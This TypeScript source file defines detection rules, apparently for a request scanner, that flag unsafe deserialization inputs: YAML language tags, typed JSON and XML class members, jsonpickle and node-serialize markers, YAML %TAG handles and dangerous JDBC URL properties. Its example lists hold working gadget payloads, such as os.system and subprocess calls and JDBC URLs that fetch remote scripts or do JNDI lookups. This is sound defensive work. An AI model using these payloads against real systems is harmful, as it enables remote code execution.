import { confidence } from '../../placement/confidence.ts';
import { firstField, foundBy } from '../../placement/evidence.ts';
import { firstMatch, type Shape } from '../../text/shape.ts';
import { wordList } from '../../text/words.ts';
import type { Match, RequestMatch, RequestRule, ValueRule } from '../rule.ts';

/**
 * YAML tags that make objects of the language: PyYAML, SnakeYAML, Psych. Alone between
 * quotation marks it is a text, and behind the `#` that a line begins with a comment.
 */
const yamlTag =
  /(?<!['"](?=[^\s'"]{1,80}['"]))(?:!!(?:python\/(?:object|name|module|tuple)|perl\/(?:hash|array|code|ref):|(?:java|javax|com|org|ch)\.\w|ruby\/\w)|!ruby\/(?:object|hash|struct|exception|regexp|class|module)\b|!<tag:\w)(?<!^[ \t]{0,40}#[^\r\n\x85\u2028\u2029"']{0,200})/m;
/** Type members of JSON libraries: Fastjson `@type`, Json.NET `$type`, Jackson `@class`. */
const typedMember =
  /"(?:@type|@class|\$type|__type|javaClass)"\s{0,4}:\s{0,4}"(?:L|\[)?[A-Za-z_]\w{0,40}\.[\w.$`]{2,120}[,;"]/;
/** The same as Json.NET and Fastjson read it as well: in single quotes, a name also in none. */
const looseMember =
  /[{,]\s{0,8}["']?(?:@type|@class|\$type|__type|javaClass)["']?\s{0,4}:\s{0,4}["'](?:\[?L)?(?:(?:[a-z_]\w{0,30}\.){1,8}[A-Z]\w{0,60}|System\.[\w.]{2,120})[,;"'$]/;
/** Jackson's polymorphic array: `["package.Class", …]`. */
const typedArray = /\[\s{0,4}"(?:[a-z][a-z0-9_]{0,30}\.){2,8}[A-Z]\w{0,60}"\s{0,4},\s{0,4}[{["]/;
/** XML that names classes to make: XStream, XMLDecoder, XAML, Castor. */
const typedXml =
  /<dynamic-proxy>|<ex:serializable\b|<jdk\.nashorn\.|\bz:Type="System\.|<struct type=['"][Lx\w]?(?:com|java|javax|org)\.|<\w{1,40} class="(?:com\.sun|java|javax|sun|org\.apache)\.\w|<java(?: version="[^"]{1,20}")? class="|<(?:object|void|target|handler|command)[^<>]{0,80} class="java|<(?:java|javax|com|org|sun)\.(?:[a-z]\w{0,30}\.){1,8}[A-Z]\w{0,60}(?:_-\w{1,60})?[>\s/]|<ObjectDataProvider\b|\btype="System\.(?:Data\.Services\.Internal|Windows\.(?:Data|Markup)|Diagnostics|Configuration\.Install|Runtime\.Remoting)\.|<ResourceDictionary\b|<ExpandedWrapper|\bxsi:type="(?:\w{1,20}:)?java\./;
/** node-serialize. */
const nodeFunction = '_$$ND_FUNC$$_';
/** jsonpickle, Ruby's JSON additions, and functions as funcster and cryo write them. */
const typedKey =
  /"(?:py\/(?:object|reduce|type|newargs|function)|json_class|\^o)"\s{0,4}:\s{0,4}(?:[[{]|"[^"])|"__js_function"\s{0,4}:\s{0,4}"\s{0,4}(?:function|\()|"_CRYO_(?:FUNCTION|OBJECT)_/;
/** A compiled Lua chunk, as bytes or escaped. */
const luaChunk = /(?:\u001b|\\27|\\x1b|\\u001b)Lua/i;
const shapes: readonly Shape[] = [
  { pattern: yamlTag, needs: ['!!', '!ruby', '!<tag'] },
  { pattern: typedMember, needs: ['type"', 'lass"'] },
  { pattern: looseMember, needs: ['type', 'lass'] },
  { pattern: typedArray, needs: ['['] },
  { pattern: typedXml, needs: ['<', 'ype="'] },
  { pattern: typedKey, needs: ['"py/', '"json_class"', '"^o"', '"__js', '"_CRYO'] },
  { pattern: luaChunk, needs: ['\u001b', '\\'] },
];

/** Text formats that name the class to be made. */
export const typedText: ValueRule = {
  id: 'deserialization.typed-text',
  score: confidence.strong,
  message: 'names a class that the parser of the format would create and run',
  trigger: {
    literals: [
      [
        ...wordList(
          '!!python !!perl py/ json_class Lua "^o" z:type type= <jdk. !!java !!com. !!org.',
          '!!ch. !!ruby !ruby/ !<tag: @type @class $type __type javaClass class=" ["',
        ),
        '[ "',
        '[\n',
        ...wordList(
          'dynamic-proxy <java <com. <org. <sun. <ex: ObjectDataProvider ResourceDictionary',
          'ExpandedWrapper __js_function _CRYO_',
        ),
        nodeFunction,
      ],
    ],
  },
  examples: [
    ...['!!python/object/apply:os.system ["ls"]', '--- !ruby/object:Gem::Requirement'],
    '!!javax.script.ScriptEngineManager [!!java.net.URL ["http://a.test"]]',
    ...['{"@type":"com.sun.rowset.JdbcRowSetImpl","autoCommit":true}', '!!perl/hash:File::Temp {}'],
    ...['{"$type":"System.Diagnostics.Process, System"}', '{"f":"_$$ND_FUNC$$_function(){}()"}'],
    ...["{'$type':'System.Diagnostics.Process, System'}", '{"json_class":"Gem::Spec","o":"x"}'],
    '{@type:"com.sun.rowset.JdbcRowSetImpl",autoCommit:true}',
    '["org.springframework.context.support.FileSystemXmlApplicationContext", "http://a.test/x"]',
    '{"py/object":"os.system","py/newargs":["ls"]}',
    '{"f":{"__js_function":"function(){return 1}"}}',
    '{"f":"_CRYO_FUNCTION_function(){return 1}"}',
    '<root type="System.Windows.Markup.XamlReader, PresentationFramework"/>',
    '<java version="1.8" class="java.beans.XMLDecoder"></java>',
    '<value><ex:serializable>AAAA</ex:serializable></value>',
    '# a list\r!!python/object/apply:os.system ["ls"]',
    '"x\n# y": !!python/object/apply:os.system ["ls"]',
  ],
  lookalikes: [
    ...['{"@context":"https://schema.org","@type":"Person","name":"Anna"}', 'Wow!! java is great'],
    ...['["www.example.com", "mail.example.com"]', '{"type":"com.example.event","class":"a.b"}'],
    ...["when '!ruby/object:BigDecimal'\n  require 'bigdecimal'", '{"@type": "BreadcrumbList"}'],
    ...["{ $type: 'app.bsky.feed.post', text: 'hi' }", "@type: 'com.example.Cart' in the docs"],
    ...['<add key="a" type="System.Configuration.NameValueSectionHandler"/>', '["file.name.Txt"]'],
    ...['<object class="icon" data="a.svg"></object>', '{"json_class":""}', '{"__js_function":""}'],
    '<project><properties><java.version>21</java.version></properties></project>',
    'Lua is a language; Luanda is a city',
    'def f(self):\n    # Format:\n    #   !!python/object:module.name { ... state ... }\n    x = 1',
  ],
  judge(subject): Match | undefined {
    const text = subject.text;
    const script = text.indexOf(nodeFunction);
    if (script >= 0) return { start: script, end: script + nodeFunction.length };
    return foundBy(firstMatch(text, shapes));
  },
};

/** Names of members that a JSON library takes a class from. */
const classMembers =
  /(?:^|\.)(?:@type|@class|\$type|__type|javaClass|json_class|py\/object|py\/type)$/;
const className =
  /^(?:\[?L)?(?:[a-z_]\w{0,30}\.){1,8}[A-Z]\w{0,60};?(?:,.{0,200})?$|^System\.[\w.]{1,120}(?:,.{0,200})?$|^[A-Z]\w{0,40}(?:::[A-Z]\w{0,40}){1,6}$/;

/** Members that hold a class as often as anything else: there, only what runs or loads code. */
const plainMembers = /(?:^|\.)(?:_?class|clazz|class_?name|type)$/i;
const gadget =
  /^(?:com\.sun\.(?:rowset|org\.apache)\.[\w.]{1,80}|java\.lang\.(?:ProcessBuilder|Runtime)|java\.net\.URLClassLoader|javax\.(?:naming\.InitialContext|script\.ScriptEngineManager|management\.BadAttributeValueExpException)|org\.springframework\.context\.support\.\w{1,20}XmlApplicationContext|org\.apache\.(?:xbean\.propertyeditor|commons\.collections4?\.functors)\.\w{1,60})$/;

/** How both kinds end. */
const classMember = /(?:type|class(?:_?name)?|clazz|object)$/i;

/** The same as members of the body: `{"@type": "java.net.URL"}`. */
export const typedMemberValue: ValueRule = {
  id: 'deserialization.typed-member',
  score: confidence.strong,
  message: 'names a class that the parser of the body would create',
  trigger: { isOfValues: true, literals: [['.', '::']], charsMax: 400 },
  examples: [
    { body: { 'body.@type': 'com.sun.rowset.JdbcRowSetImpl' } },
    { body: { x: { '@type': 'java.net.Inet4Address', val: 'a.test' } } },
    { body: { d: { '@class': 'org.apache.xbean.propertyeditor.JndiConverter' } } },
    { body: { class: 'com.sun.rowset.JdbcRowSetImpl', autoCommit: true } },
    { body: { o: { $type: 'System.Windows.Data.ObjectDataProvider, PresentationFramework' } } },
  ],
  lookalikes: [
    { body: { type: 'com.example.Event' } },
    { body: { '@type': 'https://schema.org/Article' } },
    { body: { '@type': 'Person', '@context': 'https://schema.org' } },
    { body: { class: 'java.lang.NullPointerException', q: 'java.lang.Runtime' } },
    { body: { $type: 'app.bsky.feed.post', text: 'hello' } },
  ],
  judge(subject): Match | undefined {
    // Few members are called so; the first characters rule out most texts.
    if (!classMember.test(subject.member)) return undefined;
    const isTyped = className.test(subject.text) && classMembers.test(subject.member);
    const isGadget = gadget.test(subject.text) && plainMembers.test(subject.member);
    return isTyped || isGadget ? { start: 0, end: subject.text.length } : undefined;
  },
};

/** Members by which jsonpickle and Oj make objects: `{"py/reduce": …}`, `{"^o": …}`. */
export const typedName: ValueRule = {
  id: 'deserialization.typed-name',
  score: confidence.strong,
  message: 'is a field from which the parser of the body creates an object or calls a function',
  trigger: { literals: [['py/', '^o', '^u']] },
  examples: [
    { body: { 'py/reduce': [{ 'py/function': 'subprocess.check_output' }, ['id']] } },
    { body: { '^o': 'Gem::Installer', io: 'x' } },
  ],
  lookalikes: [
    { body: { text: 'jsonpickle writes py/reduce and Oj writes ^o' } },
    { body: { '^oo^': 'cat' } },
    { body: { 'py/version': '3', 'copy/object': 'x' } },
  ],
  judge(subject): Match | undefined {
    if (subject.where !== 'name' || !typeMember.test(subject.text)) return undefined;
    return { start: 0, end: subject.text.length };
  },
};

const typeMember =
  /(?:^|\.)(?:py\/(?:object|reduce|type|function|newargs(?:ex)?|newobj|initargs|state|repr|mod)|\^[ou])$/;

/** Jackson's pair of a class and what it is made of: `["package.Class", "http://…"]`. */
export const typedPair: RequestRule = {
  id: 'deserialization.typed-pair',
  score: confidence.strong,
  message: 'pairs a class with an address or fields from which the parser would create an object',
  examples: [
    {
      body: {
        x: [
          'org.springframework.context.support.FileSystemXmlApplicationContext',
          'http://a.test/x',
        ],
      },
    },
    { body: { o: ['com.zaxxer.hikari.HikariConfig', { metricRegistry: 'ldap://a.test/x' }] } },
  ],
  lookalikes: [
    { body: { classes: ['com.example.shop.Cart', 'com.example.shop.Order'] } },
    { body: { sites: ['www.example.com', 'https://www.example.com/'] } },
    { body: { stack: ['com.example.Main', { line: 3 }] } },
  ],
  judgeRequest(request): RequestMatch | undefined {
    const { fields } = request;
    return firstField(fields, (one, index) => {
      if (one.where !== 'value' || one.node.key !== 0 || !plainClassName.test(one.text))
        return false;
      const next = fields[index + 1];
      if (next?.node.parent === one.node.parent) return address.test(next?.text ?? '');
      const value = fields[index + 2];
      const isInside = next?.node.parent?.parent === one.node.parent && value?.node === next?.node;
      return isInside && address.test(value?.text ?? '');
    });
  },
};

const plainClassName = /^(?:[a-z][a-z0-9_]{0,30}\.){2,8}[A-Z]\w{0,60}$/;
const address = /^(?:jdbc:\w|(?:https?|ldaps?|rmi|ftp|file|jar):\/?\/)/i;

const directive = /^%TAG[ \t]{1,8}(![\w-]{0,40}!?)[ \t]{1,8}([^\s]{1,120})/gm;
/** The tags by which PyYAML, Psych, SnakeYAML and others make objects of their language. */
const languageTag =
  /^(?:tag:yaml\.org,2002:(?:python|ruby|perl|java|js)\/|tag:ruby\.yaml\.org,2002:|!ruby\/|tag:yaml\.org,2002:(?:java|javax|com|org|ch)\.\w)/;
const suffix = /[\w/:.%-]{0,80}/y;
const directivesMax = 8;

/** A handle of YAML (1.2.2, 6.8.2) that stands for the tag of a class. */
export const yamlHandle: ValueRule = {
  id: 'deserialization.yaml-handle',
  score: confidence.strong,
  message: 'gives a name of its own to a tag by which a parser of YAML makes objects',
  trigger: { literals: [['%TAG']] },
  examples: [
    '%TAG !h! tag:yaml.org,2002:\n---\n!h!python/object/apply:os.system ["ls"]',
    '%TAG ! tag:yaml.org,2002:python/\n---\n[1, !object/new:os.popen [ls]]',
    '%TAG !r! tag:ruby.yaml.org,2002:object:\n--- !r!Gem::Installer\ni: x',
  ],
  lookalikes: [
    '%TAG !e! tag:example.com,2000:app/\n---\n- !e!invoice {total: 3}',
    '%TAG !y! tag:yaml.org,2002:\n---\n!y!str python/object',
  ],
  judge({ text }): Match | undefined {
    let count = 0;
    for (const found of text.matchAll(directive)) {
      const [whole, handle = '', prefix = ''] = found;
      const match = taggedBehind(text, found.index + whole.length, handle, prefix);
      if (match !== undefined || ++count === directivesMax) return match;
    }
    return undefined;
  },
};

/** The first use of a handle for the tag of a class. */
function taggedBehind(
  text: string,
  from: number,
  handle: string,
  prefix: string,
): Match | undefined {
  for (let at = text.indexOf(handle, from); at >= 0; at = text.indexOf(handle, at + 1)) {
    suffix.lastIndex = at + handle.length;
    const name = suffix.exec(text)?.[0] ?? '';
    if (languageTag.test(prefix + name)) return { start: at, end: suffix.lastIndex };
  }
  return undefined;
}

/**
 * Properties by which a driver of JDBC reads objects of its server, makes a class, looks a name up
 * or runs a script.
 */
export const jdbcUrl: ValueRule = {
  id: 'deserialization.jdbc-url',
  score: confidence.strong,
  message: 'makes a database driver read objects, create classes or run a foreign script',
  trigger: {
    literals: [
      ['jdbc:', 'jndiname='],
      [
        ...wordList('autodeserialize statusdiff socketfactoryarg sslfactoryarg jndiname runscript'),
        'create alias',
        'loggerfile',
        ...wordList('allowurlinlocalinfile slavehost startmaster ::resource:'),
      ],
    ],
  },
  examples: [
    'jdbc:mysql://192.0.2.9/a?autoDeserialize=true&user=x',
    'jdbc:postgresql://a/b?socketFactory=c.D&socketFactoryArg=http://192.0.2.9/x.xml',
    'jdbc:db2://192.0.2.9:50000/a:clientRerouteServerListJNDIName=ldap://192.0.2.9/x;',
    'jdbc:derby:memory:x;startMaster=true;slaveHost=192.0.2.9',
    'jdbc:sqlite::resource:http://192.0.2.9/a.db',
    'SHOP:clientRerouteServerListJNDIName=rmi://192.0.2.9/x',
    "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://192.0.2.9/a.sql'",
  ],
  lookalikes: [
    'jdbc:mysql://db:3306/shop?useSSL=true&autoDeserialize=false',
    'jdbc:mysql:///shop?socketFactory=com.google.cloud.sql.mysql.SocketFactory',
    'jdbc:postgresql://db/shop?sslmode=require&loggerLevel=OFF',
    'clientRerouteServerListJNDIName=jdbc/routes',
    'What does autoDeserialize in a jdbc: address do?',
  ],
  judge(subject): Match | undefined {
    const found = property.exec(subject.text);
    if (found === null) return undefined;
    // The other properties mean something else elsewhere; the address may come in parts.
    const isAddress = subject.text.slice(0, found.index).includes('jdbc:');
    if (!isAddress && !jndiName.test(found[0])) return undefined;
    return foundBy(found);
  },
};

const jndiName = /^JNDIName=/i;
const property =
  /autoDeserialize=(?:true|yes|1)\b|ServerStatusDiffInterceptor|(?:socket|ssl)FactoryArg=(?:https?|file|ftp):|JNDIName=(?:ldaps?|rmi|iiop|dns):|INIT=(?:RUNSCRIPT|CREATE ALIAS)\b|allowUrlInLocalInfile=true\b|(?:slaveHost|startMaster)=|sqlite::resource:(?:https?|file|ftp):|loggerFile=[\w./\\-]{1,120}\.(?:jspx?|php|aspx?)\b/i;
